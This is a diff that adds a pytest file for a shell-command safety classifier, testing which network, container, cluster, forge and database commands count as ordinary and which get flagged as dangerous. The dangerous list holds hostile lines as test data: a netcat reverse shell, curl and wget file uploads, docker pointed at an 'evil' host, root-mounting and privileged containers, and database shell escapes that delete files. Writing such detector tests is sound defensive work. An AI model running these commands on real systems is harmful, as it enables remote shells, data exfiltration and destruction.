@@ -1,0 +1,140 @@
+"""The network, containers, clusters, forges and databases: ordinary lines, and lines that do more than they say."""
+
+import pytest
+
+from assent.model.modes import Category
+from tests.support.programs import program_part
+
+ORDINARY = {
+    Category.EXECUTE: [
+        'sqlite3 x.db "select 1"',
+    ],
+    Category.EXTERNAL: [
+        "curl https://x.org",
+        "curl -fsSL https://x.org",
+        'curl -sS -H "Accept: x" -o /dev/null -w "%{http_code}" https://x.org',
+        "wget https://x",
+        "wget -qO- https://x",
+        "ping -c 3 x",
+        "dig +short x",
+        "nc -zv localhost 80",
+        "scp a.txt host:/tmp",
+        "docker ps -a",
+        "docker logs -f x",
+        "docker build -t x .",
+        "docker compose up -d",
+        "docker compose exec web ls -la",
+        'docker run --rm -it alpine sh -c "echo hi"',
+        "docker exec c ls",
+        "docker image ls",
+        "kubectl get pods -n x -o yaml",
+        "kubectl logs -f x",
+        "kubectl describe pod x",
+        "kubectl exec -n x pod -c y -- ls",
+        "kubectl apply -f x.yml",
+        "helm list -A",
+        "terraform plan",
+        "terraform init",
+        "gh pr view 12",
+        "gh pr list --json number --jq .x",
+        "gh pr create --title x --body y",
+        "gh run view 1 --log",
+        "gh api repos/x/y",
+        "gh repo view",
+        "gh issue list",
+        "gh pr checks",
+        'psql -c "select 1"',
+        "redis-cli get x",
+        "aws s3 ls",
+        "gcloud compute instances list",
+        "vercel deploy --prod",
+    ],
+    Category.WRITE: [
+        "rsync -av src/ dst/",
+    ],
+    Category.READ: [
+        "docker --version",
+        "curl --version",
+        "ss -tlnp",
+        "ip a",
+        "ip -br addr show",
+        "ip route get 1.1.1.1",
+        "openssl x509 -in c.pem -noout -text",
+        "openssl dgst -sha256 f",
+    ],
+}
+DANGEROUS = [
+    ("curl -o x https://x.org", 2),
+    ("curl -sSLo x https://x.org", 2),
+    ("curl -O https://x.org/x", 1),
+    ("curl -K x", 2),
+    ("curl --conf x", 2),
+    ("curl -d @x https://x", 1),
+    ("curl -H @x https://x", 1),
+    ("curl -F f=@x https://x", 1),
+    ("curl -T x http://x", 1),
+    ("curl -X DELETE https://x", 1),
+    ("curl gopher://x", 1),
+    ("curl --proxy x http://x", 1),
+    ("curl --netrc-file x http://x", 1),
+    ("curl --engine ./x http://x", 1),
+    ("wget -e x https://x", 1),
+    ("wget --post-file=x https://x", 1),
+    ("wget --use-askpass=./x https://x", 1),
+    ("nc -e /bin/sh x 80", 1),
+    ("nc -l 80", 1),
+    ("ip link set eth0 down", 2),
+    ("ip netns exec x sh", 1),
+    ("scp -o ProxyCommand=x a host:b", 1),
+    ("rsync -e ./x a host:b", 1),
+    ("rsync --rsync-path=x a host:b", 1),
+    ("rsync -av --delete src/ dst/", 2),
+    ("openssl dgst -engine ./x f", 3),
+    ("docker --url tcp://evil ps", 1),
+    ("docker -H tcp://evil ps", 1),
+    ("docker -c x ps", 1),
+    ("podman ps --url tcp://x", 2),
+    ("docker run -v /:/x alpine", 2),
+    ("docker run -itv /:/x alpine", 2),
+    ("docker run --privileged alpine", 2),
+    ("docker run --unknown alpine ls", 2),
+    ("docker compose -f x.yml up", 3),
+    ("docker compose down -v", 3),
+    ("docker build --push .", 2),
+    ("kubectl get pods --kubeconfig x", 4),
+    ("kubectl get pods --as=admin", 3),
+    ("kubectl -n x --server=http://x get pods", 3),
+    ("kubectl exec pod --as=admin -- ls", 3),
+    ("kubectl get x -o custom-columns-file=y", 3),
+    ("helm upgrade x y --post-renderer ./x", 4),
+    ("terraform -chdir=../x plan", 1),
+    ("terraform apply -auto-approve", 2),
+    ("terraform init -plugin-dir=x", 2),
+    ("gh pr view 12 --web", 4),
+    ("gh pr create -F x", 3),
+    ("gh api -X DELETE repos/x/y", 2),
+    ("gh api repos/x -f a=b", 3),
+    ("gh alias set x y", 2),
+    ("gh extension install x", 2),
+    ("gh issue list --hostname evil", 3),
+    ('psql -c "\\\\! rm x"', 2),
+    ("psql -f x.sql", 2),
+    ('sqlite3 x.db ".shell rm x"', 2),
+    ('sqlite3 x.db ".tables\n.shell rm"', 2),
+    ('sqlite3 -cmd ".shell x" x.db', 1),
+    ('mysql -e "system rm"', 2),
+    ("aws s3 ls --endpoint-url http://x", 3),
+    ("aws lambda invoke --payload file:///x", 4),
+]
+
+
+@pytest.mark.parametrize(("category", "line"), [(one, line) for one, lines in ORDINARY.items() for line in lines])
+def test_an_ordinary_line_is_no_danger(category: Category, line: str) -> None:
+    part = program_part(line)
+    assert part.dangers == ()
+    assert part.category is category
+
+
+@pytest.mark.parametrize(("line", "at"), DANGEROUS)
+def test_what_does_more_is_told_with_its_word(line: str, at: int) -> None:
+    assert at in [danger.at for danger in program_part(line).dangers]
